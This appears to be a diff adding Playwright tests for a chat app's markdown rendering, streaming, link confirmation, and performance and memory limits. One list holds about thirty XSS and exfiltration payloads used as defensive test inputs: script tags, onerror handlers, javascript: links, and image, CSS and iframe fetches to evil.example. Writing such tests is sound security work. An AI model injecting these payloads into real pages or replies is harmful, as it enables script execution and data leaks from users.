@@ -1,0 +1,194 @@
+import { expect, lastReply, openPage, say, test, type Page } from "../../www/page-testing.ts";
+import { inPieces, scriptEngine } from "./scripted.mts";
+
+/** Has the page show `text` as a reply that came in pieces. */
+async function showReply(page: Page, text: string): Promise<void> {
+  await scriptEngine(page, { replies: [inPieces(text)] });
+  await openPage(page);
+  await say(page, "Go on");
+  await expect(page.locator('article[data-role="assistant"]')).toHaveAttribute("data-status", "whole");
+}
+
+test("markdown becomes what it means", async ({ page }) => {
+  await showReply(
+    page,
+    [
+      "# Title",
+      "Some **bold**, *slanted* and `code`, 5 < 6, and 2 dollars: $3 and $4.",
+      "1. one\n2. two\n   - inner",
+      "| a | b |\n|---|--:|\n| 1 | 2 |",
+      "```rust\nfn main() { println!(\"hi\"); }\n```",
+      "Inline $x^2 + 1$ and $$\\int_0^1 x\\,dx = \\frac{1}{2}$$",
+      "> said",
+    ].join("\n\n"),
+  );
+  const reply = lastReply(page);
+  await expect(reply.locator("h3")).toHaveText("Title");
+  await expect(reply.locator("strong")).toHaveText("bold");
+  await expect(reply.locator("ol > li")).toHaveCount(2);
+  await expect(reply.getByRole("region", { name: "Table" }).locator("td")).toHaveText(["1", "2"]);
+  await expect(reply.locator("pre code .hljs-keyword").first()).toHaveText("fn");
+  await expect(reply.locator(".katex")).toHaveCount(2);
+  await expect(reply).toContainText("5 < 6, and 2 dollars: $3 and $4.");
+  await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
+  await reply.getByRole("button", { name: "Copy" }).click();
+  await expect(reply.getByRole("button", { name: "Copied" })).toBeVisible();
+  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('fn main() { println!("hi"); }');
+});
+
+test("what is half-written is shown as what it will be", async ({ page }) => {
+  await scriptEngine(page, { replies: [["Some **bold", " words", "**, a [link", "](https://exam", "ple.com/a)", " end"]], pause_ms: 400 });
+  await openPage(page);
+  await say(page, "Go on");
+  await expect(lastReply(page).locator("strong")).toHaveText(/^bold/);
+  await expect(lastReply(page)).not.toContainText("*");
+  await expect(lastReply(page)).not.toContainText("](");
+  await expect(lastReply(page).getByRole("link")).toHaveAttribute("href", "https://example.com/a");
+});
+
+/** Each tries to run something, or to have something fetched, without a click. */
+const HOSTILE = [
+  "<script>document.title = 'ran'</script>",
+  "<img src=x onerror=\"document.title='ran'\">",
+  "![a](https://evil.example/leak.png?secret=1)",
+  "![a][ref]\n\n[ref]: https://evil.example/ref.png",
+  "<img srcset='https://evil.example/a.png 1x'>",
+  "<picture><source srcset='https://evil.example/b.png'></picture>",
+  "<video poster='https://evil.example/p.png' src='https://evil.example/v.mp4'></video>",
+  "<audio src='https://evil.example/a.mp3' autoplay></audio>",
+  "<style>@import 'https://evil.example/s.css'; * { background: url(https://evil.example/bg.png) }</style>",
+  "<div style='background:url(https://evil.example/c.png)'>x</div>",
+  "<table background='https://evil.example/t.png'><tr><td>x</td></tr></table>",
+  "<svg><image href='https://evil.example/i.png'/><script>document.title='ran'</script></svg>",
+  "<input type=image src='https://evil.example/in.png'>",
+  "<link rel=preload as=image href='https://evil.example/l.png'>",
+  "<link rel=prefetch href='https://evil.example/l2'>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example/m'>",
+  "<base href='https://evil.example/'>",
+  "<iframe src='https://evil.example/f' srcdoc='<script>parent.document.title=1</script>'></iframe>",
+  "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
+  "<form action='https://evil.example/'><button autofocus onfocus=\"document.title='ran'\">x</button></form>",
+  "<a href='https://evil.example/' ping='https://evil.example/ping' onclick='document.title=1'>x</a>",
+  "[run](javascript:document.title='ran')",
+  "[run](data:text/html,<script>1</script>)",
+  "[run](  jAvAsCrIpT:alert(1))",
+  "<math><mtext><mglyph><style><img src=x onerror=\"document.title='ran'\"></style></mglyph></mtext></math>",
+  "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/k.png}$ $\\htmlStyle{background:url(https://evil.example/h.png)}{x}$",
+  "$$\\def\\a{\\a\\a}\\a$$",
+  "```html\n<img src=x onerror=\"document.title='ran'\"></code></pre><script>document.title='ran'</script>\n```",
+  "``` \"><img src=x onerror=document.title='ran'>\ncode\n```",
+  "<details open ontoggle=\"document.title='ran'\"><summary>x</summary></details>",
+  "<noscript><p title=\"</noscript><img src=x onerror=document.title='ran'>\"></noscript>",
+  "<!--><img src=x onerror=document.title='ran'>-->",
+];
+
+test("a hostile reply runs nothing and has nothing fetched", async ({ page, baseURL }) => {
+  const elsewhere: string[] = [];
+  page.on("request", (request) => {
+    const url = new URL(request.url());
+    if (url.protocol !== "data:" && url.protocol !== "blob:" && url.origin !== new URL(baseURL ?? "").origin) {
+      elsewhere.push(request.url());
+    }
+  });
+  page.on("dialog", () => elsewhere.push("a dialog"));
+  await showReply(page, `${HOSTILE.join("\n\n")}\n\nThe end.`);
+  await expect(lastReply(page)).toContainText("The end.");
+  await page.waitForTimeout(500);
+  expect(elsewhere).toEqual([]);
+  expect(await page.title()).toBe("Go on · Tandem");
+  const found = await lastReply(page).evaluate((reply) => ({
+    elements: [...reply.querySelectorAll("img, script, style, iframe, object, embed, video, audio, form, link, meta, base, input, image, svg")]
+      // Formulas draw their stretched marks.
+      .filter((element) => !element.closest(".katex"))
+      .map((element) => element.outerHTML),
+    handlers: [...reply.querySelectorAll("*")].flatMap((element) =>
+      element.getAttributeNames().filter((name) => name.startsWith("on") || name === "ping" || name === "srcset"),
+    ),
+    links: [...reply.querySelectorAll("a")].map((link) => link.protocol),
+  }));
+  expect(found.elements).toEqual([]);
+  expect(found.handlers).toEqual([]);
+  expect(new Set(found.links)).toEqual(new Set(["https:"]));
+});
+
+test("a link shows where it goes and asks before it is followed", async ({ page }) => {
+  await showReply(page, "See [the bank](https://bank.example.evil.example/login?x=1).");
+  const link = lastReply(page).getByRole("link");
+  await expect(link).toContainText("bank.example.evil.example");
+  await link.click();
+  const asked = page.getByRole("dialog");
+  await expect(asked).toContainText("https://bank.example.evil.example/login?x=1");
+  await asked.getByRole("button", { name: "Stay" }).click();
+  await expect(asked).toHaveCount(0);
+  expect(page.context().pages()).toHaveLength(1);
+});
+
+/** About a thousand tokens of prose, lists, tables and code. */
+const LONG = Array.from({ length: 12 }, (_, at) =>
+  [
+    `## Part ${at}`,
+    "A paragraph with **bold words**, *slanted ones*, `code` and a [link](https://example.com/page), so that it has all sorts of marks in it.",
+    "- first of a list\n- second of a list\n  - inner one",
+    "```typescript\nexport function sum(values: readonly number[]): number {\n  return values.reduce((a, b) => a + b, 0); // all of them\n}\n```",
+    "| name | value |\n|---|---|\n| a | 1 |\n| b | 2 |",
+  ].join("\n\n"),
+).join("\n\n");
+
+test("a thousand tokens of markdown hold the page up for no moment that is felt", async ({ page }) => {
+  const pieces = inPieces(LONG);
+  expect(pieces.length).toBeGreaterThan(1_000);
+  await scriptEngine(page, { replies: [pieces], pause_ms: 4 });
+  await openPage(page);
+  await page.evaluate(() => {
+    const found = { long_ms: [] as number[], shift: 0 };
+    (window as { found?: typeof found }).found = found;
+    new PerformanceObserver((list) => {
+      for (const entry of list.getEntries()) found.long_ms.push(entry.duration);
+    }).observe({ type: "longtask" });
+    new PerformanceObserver((list) => {
+      for (const entry of list.getEntries()) found.shift += (entry as PerformanceEntry & { value: number }).value;
+    }).observe({ type: "layout-shift" });
+  });
+  await say(page, "Go on");
+  // Waited for inside the page: the test's own looking would be what it measures.
+  await page.evaluate(async () => {
+    const whole = () => document.querySelector('article[data-status="whole"]');
+    while (!whole()) await new Promise((resolve) => setTimeout(resolve, 100));
+  });
+  const { long_ms, shift } = await page.evaluate(
+    () => (window as unknown as { found: { long_ms: number[]; shift: number } }).found,
+  );
+  console.log(`long tasks: ${long_ms.map((ms) => `${ms} ms`).join(", ") || "none"}; layout shift: ${shift.toFixed(4)}`);
+  // On a machine that others use too, one may be an accident.
+  expect(long_ms.filter((ms) => ms > 50).length).toBeLessThanOrEqual(3);
+  expect(Math.max(0, ...long_ms)).toBeLessThan(200);
+  expect(shift).toBeLessThan(0.05);
+  await expect(lastReply(page).locator("figure.code")).toHaveCount(12);
+});
+
+test("fifty replies leave the page as light as ten", async ({ page }) => {
+  test.slow();
+  const text = LONG.slice(0, 2_500);
+  await scriptEngine(page, { replies: [inPieces(text)] });
+  await openPage(page);
+  const session = await page.context().newCDPSession(page);
+  await session.send("Performance.enable");
+  const weigh = async () => {
+    await session.send("HeapProfiler.collectGarbage");
+    const { metrics } = await session.send("Performance.getMetrics");
+    const of = (name: string) => metrics.find((metric) => metric.name === name)?.value ?? 0;
+    return { heap: of("JSHeapUsedSize"), nodes: of("Nodes") };
+  };
+  const weights = [];
+  for (let at = 1; at <= 50; at += 1) {
+    // A conversation each, as a day has them: what is not in view is not held.
+    await page.keyboard.press("Control+Shift+O");
+    await say(page, `Number ${at}`);
+    await expect(page.locator('article[data-role="assistant"]')).toHaveAttribute("data-status", "whole");
+    if (at % 10 === 0) weights.push(await weigh());
+  }
+  console.log(weights.map(({ heap, nodes }) => `${(heap / 1e6).toFixed(1)} MB, ${nodes} nodes`).join("; "));
+  const [first, last] = [weights[0], weights.at(-1)];
+  expect(last?.heap).toBeLessThan((first?.heap ?? 0) + 6e6);
+  expect(last?.nodes).toBeLessThan((first?.nodes ?? 0) * 2 + 1_000);
+});
